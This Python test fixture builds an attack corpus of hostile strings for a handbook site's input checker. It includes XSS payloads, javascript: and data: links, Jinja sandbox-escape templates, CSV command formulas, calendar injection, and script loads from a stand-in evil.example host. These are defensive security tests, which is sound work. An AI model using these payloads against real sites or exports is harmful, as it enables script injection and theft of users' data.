"""The attack corpus: strings a hostile or careless pull request could put into a text field.

``ACCEPTED`` holds strings the checker lets through: they reach the built site, so the site
must show them as text and never run them. ``REFUSED`` holds strings the checker rejects,
each with the exact fault it reports; the renderers must still keep them inert when called
directly (defence in depth). Every payload that could run tries to set ``window.__pwned`` or
open a dialog, which the browser tests watch for.
"""

from __future__ import annotations

from dataclasses import dataclass
from html import escape

from handbook.render.markup import inline

SENTINEL = "__pwned"
"""The window property every runnable payload tries to set."""

HTML_FAULT = "contains HTML (a '<' followed by a tag); write plain text instead"


def bidi_fault(code: int) -> str:
    return (
        f"contains the invisible direction control U+{code:04X}; delete it, "
        "the page sets the direction itself"
    )


def control_fault(code: int) -> str:
    return f"contains the control character U+{code:04X}; delete it"


@dataclass(frozen=True)
class Attack:
    """One hostile string, the class of attack it belongs to, and why it is in the corpus."""

    kind: str
    text: str
    why: str
    faults: tuple[str, ...] = ()
    """For refused strings: the checker's complaints, word for word (without the field name)."""

    @property
    def verbatim(self) -> bool:
        """True when the Markdown subset leaves the string alone, so it shows character for
        character; strings that use the subset (a real https link, a list) show differently."""
        one_line = " ".join(self.text.split())
        lines = [line.strip() for line in self.text.splitlines()]
        return inline(one_line) == escape(one_line) and not any(
            line.startswith("- ") for line in lines
        )


P = f"window.{SENTINEL}=1"

ACCEPTED: tuple[Attack, ...] = (
    # script tags the checker cannot see as tags
    Attack("script", f"&lt;script&gt;{P}&lt;/script&gt;", "named entities must stay literal"),
    Attack("script", "&#60;script&#62;alert(1)&#60;/script&#62;", "numeric entities"),
    Attack("script", f"%3Cscript%3E{P}%3C/script%3E", "percent-encoded tag"),
    Attack("script", rf"\u003cscript\u003e{P}\u003c/script\u003e", "JavaScript escapes"),
    Attack("script", f"\uff1cscript\uff1e{P}\uff1c/script\uff1e", "full-width brackets"),
    Attack("script", rf"<\script>{P}<\/script>", "backslash after '<' is not a tag"),
    # event handlers trying to break out of an attribute
    Attack("event-handler", f'" onmouseover="{P}" autofocus onfocus="alert(1)', "double quote"),
    Attack("event-handler", "' onerror='alert(1)' x='", "single-quoted attribute break-out"),
    Attack("event-handler", f"x onload={P} y=onerror=alert(1)", "unquoted handler words"),
    # SVG and data URLs written without a tag
    Attack(
        "svg",
        "[svg](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
        "SVG with onload in a data link",
    ),
    Attack("svg", f"svg/onload={P} xmlns=http://www.w3.org/2000/svg", "SVG attribute soup"),
    # malformed and unclosed pseudo-tags
    Attack("malformed-tag", "a <= b && c > d >= e, 1 < 2", "comparison signs"),
    Attack("malformed-tag", "<> </> << >> < > <3 <- -->", "brackets that open no tag"),
    Attack("malformed-tag", "<%= 7*7 %> <%-x%> ]]> -->", "server tags, CDATA and comment ends"),
    Attack("malformed-tag", "unclosed <", "a trailing '<'"),
    Attack("malformed-tag", "\"unbalanced 'quotes & ampersands;", "quotes and ampersands"),
    # dangerous link schemes in Markdown link syntax
    Attack("link", f"[click me](javascript:{P})", "javascript: link"),
    Attack("link", f"[click me](JaVaScRiPt:{P})", "mixed-case scheme"),
    Attack("link", f"[click me]( javascript:{P} )", "scheme behind whitespace"),
    Attack("link", f"[click me](jav&#x09;ascript:{P})", "entity tab inside the scheme"),
    Attack("link", f"[click me](&#106;avascript:{P})", "entity-encoded first letter"),
    Attack("link", f"[click me](java\tscript:{P})", "raw tab inside the scheme"),
    Attack(
        "link",
        "[click me](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
        "data: URL carrying a script",
    ),
    Attack("link", '[click me](vbscript:msgbox("pwned"))', "vbscript: link"),
    Attack("link", "[click me](//evil.example/steal)", "protocol-relative link"),
    Attack(
        "link",
        f'[click me](https://example.org/"onmouseover="{P})',
        "an allowed link whose address tries to leave the href attribute",
    ),
    Attack(
        "link",
        f'[mail](mailto:x@example.org?body="onclick="{P})',
        "an allowed mailto link with a quote in it",
    ),
    Attack("link", f"![pwned](javascript:{P})", "image syntax with a script URL"),
    Attack("link", f"[click me][evil]\n\n[evil]: javascript:{P}", "reference-style link"),
    # template syntax of Jinja (mkdocs-macros, the theme) and others
    Attack("template", "{{ 7*7 }} {{ config.site_name }}", "Jinja expressions"),
    Attack("template", "{% if true %}TEMPLATE-RAN{% endif %}", "Jinja statement"),
    Attack("template", "{# hidden #} visible", "Jinja comment"),
    Attack("template", '{{ phase_content("check-in") }}', "a call of the handbook's own macro"),
    Attack(
        "template",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "Jinja sandbox escape",
    ),
    Attack("template", "${7*7} #{7*7} {{{{raw}}}} {%raw%}{{%endraw%}", "other template syntaxes"),
    # Markdown that would expand into HTML if the text went through Markdown
    Attack("markdown", f'{{: onclick="{P}" }}', "attribute list with a handler"),
    Attack("markdown", "Title {#evil .md-button onclick=alert(1)}", "heading attribute list"),
    Attack("markdown", "# Not a heading\n> not a quote\n---", "block syntax"),
    Attack("markdown", "    indented code\n| a | b |\n|---|---|", "code block and table"),
    Attack("markdown", "[^1] ==mark== ~~del~~ :smile: ^^ins^^", "extension syntax"),
    Attack("markdown", "https://evil.example/x www.evil.example", "bare addresses"),
    Attack("markdown", "- a list item from data", "a list (allowed: it becomes a list)"),
    # very long words
    Attack("long-word", "A" * 10_000, "10,000 letters without a break"),
    Attack("long-word", "ب" * 10_000, "10,000 Arabic letters without a break"),
    # entity and Unicode tricks the checker lets through
    Attack("unicode", "&#x202E;gnp.exe &amp;lt; &nbsp; &#0;", "entities must not be decoded"),
    Attack("unicode", "left\u200fright\u200eok", "direction marks (allowed, invisible)"),
    Attack("unicode", "line\u2028separator\u2029paragraph", "Unicode line separators"),
    Attack("unicode", "Z\u0335\u0321a\u0337l\u0336g\u0335o\u0338 مرحبا 123", "combining marks"),
    # exports: CSV formulas, calendar lines, JSON structure
    Attack("export", '=HYPERLINK("http://evil.example","open")', "CSV formula"),
    Attack("export", "+cmd|' /C calc'!A0 @SUM(1+1) -2+3", "CSV command formulas"),
    Attack(
        "export",
        "first line\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:injected",
        "calendar lines injected through a newline",
    ),
    Attack("export", '"}],"standards":[{"id":"FAKE-99"', "JSON structure"),
)

REFUSED: tuple[Attack, ...] = (
    Attack("script", f"<script>{P}</script>", "script tag", (HTML_FAULT,)),
    Attack("script", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "upper case", (HTML_FAULT,)),
    Attack("script", "<scr<script>ipt>alert(1)</scr</script>ipt>", "nested split", (HTML_FAULT,)),
    Attack("event-handler", f'<img src=x onerror="{P}">', "image error handler", (HTML_FAULT,)),
    Attack("event-handler", "< img src=x onerror=alert(1)>", "space after '<'", (HTML_FAULT,)),
    Attack("event-handler", "<details open ontoggle=alert(1)>", "toggle handler", (HTML_FAULT,)),
    Attack("svg", f'<svg onload="{P}">', "SVG onload", (HTML_FAULT,)),
    Attack("svg", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "SMIL", (HTML_FAULT,)),
    Attack(
        "malformed-tag",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "mutation XSS",
        (HTML_FAULT,),
    ),
    Attack("malformed-tag", f"<img src=x onerror={P}//", "unclosed tag", (HTML_FAULT,)),
    Attack("malformed-tag", f"</textarea><script>{P}</script>", "closing tag", (HTML_FAULT,)),
    Attack("malformed-tag", "<!--<script>alert(1)</script>-->", "comment", (HTML_FAULT,)),
    Attack("malformed-tag", '<?xml version="1.0"?>', "processing instruction", (HTML_FAULT,)),
    Attack("link", f'<a href="javascript:{P}">x</a>', "HTML link", (HTML_FAULT,)),
    Attack("markdown", "<https://evil.example>", "autolink", (HTML_FAULT,)),
    Attack("markdown", f"<javascript:{P}>", "script autolink", (HTML_FAULT,)),
    Attack("markdown", "<mailto:evil@example.org>", "mail autolink", (HTML_FAULT,)),
    Attack("markdown", '<div markdown="1">**x**</div>', "HTML block with Markdown", (HTML_FAULT,)),
    Attack("bidi", "invoice\u202efdp.exe", "right-to-left override", (bidi_fault(0x202E),)),
    Attack("bidi", "\u2066isolated", "first strong isolate", (bidi_fault(0x2066),)),
    Attack("bidi", "\u202aembedded", "left-to-right embedding", (bidi_fault(0x202A),)),
    Attack("control", "nul\x00byte", "NUL", (control_fault(0x00),)),
    Attack("control", "bell\x07", "bell", (control_fault(0x07),)),
    Attack("control", "\x1b[31mred", "terminal escape", (control_fault(0x1B),)),
    Attack("control", "del\x7f", "DEL", (control_fault(0x7F),)),
    Attack("control", "next\x85line", "NEL", (control_fault(0x85),)),
    Attack("control", "zero\u200bwidth", "zero-width space", (control_fault(0x200B),)),
    Attack("control", "bom\ufeff", "byte-order mark", (control_fault(0xFEFF),)),
    Attack("control", "carriage\rreturn", "carriage return", (control_fault(0x0D),)),
    Attack(
        "control",
        "\x02wzxhzdk:0\x03",
        "Python-Markdown's own placeholder for stashed HTML",
        (control_fault(0x02), control_fault(0x03)),
    ),
)
